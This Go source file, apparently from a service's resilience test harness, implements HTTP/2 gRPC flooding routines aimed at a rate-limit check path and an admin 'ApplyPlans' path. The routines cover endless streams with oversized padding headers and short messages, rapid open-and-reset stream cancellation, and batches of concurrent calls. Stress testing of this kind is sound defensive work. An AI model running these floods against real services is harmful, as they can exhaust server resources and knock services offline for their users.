package main

import (
	"bufio"
	"bytes"
	"context"
	bigendian "encoding/binary"
	"io"
	"math"
	"net"
	"strings"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// sendGRPCFlood writes calls without an end, of whose messages a part comes. Their large headers come with each call, or, if indexed,
// by their numbers in the connection's table.
func sendGRPCFlood(path string, claimed, sent int, indexed bool) func(context.Context, *floodEnvironment, net.Conn) {
	return func(ctx context.Context, _ *floodEnvironment, conn net.Conn) {
		w := newGRPCWriter()
		for range 1 << 19 {
			if ctx.Err() != nil {
				return
			}
			message := make([]byte, sent)
			if sent > 0 {
				bigendian.BigEndian.PutUint32(message[1:], uint32(claimed))
			}
			if !indexed {
				w.fields = hpack.NewEncoder(&w.block)
			}
			w.beginCall(path, [2]string{"x-padding", strings.Repeat("h", 2000)})
			for len(message) > 0 {
				n := min(len(message), 16<<10)
				_ = w.framer.WriteData(w.stream, false, message[:n])
				message = message[n:]
			}
			if w.flush(conn) != nil {
				return
			}
		}
	}
}

// grpcWriter writes calls, all of which it keeps until flush.
type grpcWriter struct {
	text   bytes.Buffer
	framer *http2.Framer
	block  bytes.Buffer
	fields *hpack.Encoder
	stream uint32 // the last one begun
}

func newGRPCWriter() *grpcWriter {
	w := &grpcWriter{stream: math.MaxUint32} // so that the first call has stream 1
	w.framer, w.fields = http2.NewFramer(&w.text, nil), hpack.NewEncoder(&w.block)
	w.text.WriteString(http2.ClientPreface)
	_ = w.framer.WriteSettings()
	_ = w.framer.WriteWindowUpdate(0, 1<<30)
	return w
}

func (w *grpcWriter) beginCall(path string, more ...[2]string) {
	w.stream += 2
	w.block.Reset()
	for _, f := range append([][2]string{{":method", "POST"}, {":scheme", "http"}, {":path", path}, {":authority", "a"},
		{"content-type", "application/grpc"}, {"te", "trailers"}}, more...) {
		_ = w.fields.WriteField(hpack.HeaderField{Name: f[0], Value: f[1]})
	}
	_ = w.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: w.stream, BlockFragment: w.block.Bytes(), EndHeaders: true})
}

func (w *grpcWriter) flush(conn net.Conn) error {
	defer w.text.Reset()
	return writeAll(conn, w.text.String())
}

// sendCallsAtOnce writes atOnce whole calls, whose message is empty, with each write, and as many again once all are answered.
func sendCallsAtOnce(path string, atOnce int) func(context.Context, *floodEnvironment, net.Conn) {
	return func(ctx context.Context, _ *floodEnvironment, conn net.Conn) {
		w := newGRPCWriter()
		in := http2.NewFramer(nil, bufio.NewReader(conn))
		for ctx.Err() == nil {
			for range atOnce {
				w.beginCall(path)
				_ = w.framer.WriteData(w.stream, true, make([]byte, 5))
			}
			if w.flush(conn) != nil || !w.awaitAnswers(conn, in, atOnce) {
				return
			}
		}
	}
}

// sendResetCalls writes calls, each of which it resets at once, and reads what comes.
func sendResetCalls(path string, atOnce int, fields ...[2]string) func(context.Context, *floodEnvironment, net.Conn) {
	return func(ctx context.Context, _ *floodEnvironment, conn net.Conn) {
		go func() { _, _ = io.Copy(io.Discard, conn) }()
		w := newGRPCWriter()
		for ctx.Err() == nil {
			for range atOnce {
				w.beginCall(path, fields...)
				_ = w.framer.WriteData(w.stream, true, make([]byte, 5))
				_ = w.framer.WriteRSTStream(w.stream, http2.ErrCodeCancel)
			}
			if w.flush(conn) != nil {
				return
			}
		}
	}
}

// awaitAnswers reads until so many calls have ended; false where the connection ends.
func (w *grpcWriter) awaitAnswers(conn net.Conn, in *http2.Framer, calls int) bool {
	for calls > 0 {
		frame, err := in.ReadFrame()
		if err != nil {
			return false
		}
		switch f := frame.(type) {
		case *http2.SettingsFrame:
			if !f.IsAck() {
				_ = w.framer.WriteSettingsAck()
			}
		case *http2.PingFrame:
			if !f.IsAck() {
				_ = w.framer.WritePing(true, f.Data)
			}
		case *http2.HeadersFrame:
			if f.StreamEnded() {
				calls--
			}
		case *http2.RSTStreamFrame:
			calls--
		case *http2.GoAwayFrame:
			return false
		}
		if w.text.Len() > 0 && w.flush(conn) != nil {
			return false
		}
	}
	return true
}

const (
	checkPath = "/envoy.service.ratelimit.v3.RateLimitService/ShouldRateLimit"
	applyPath = "/bramblefall.admin.v1.Admin/ApplyPlans"
)
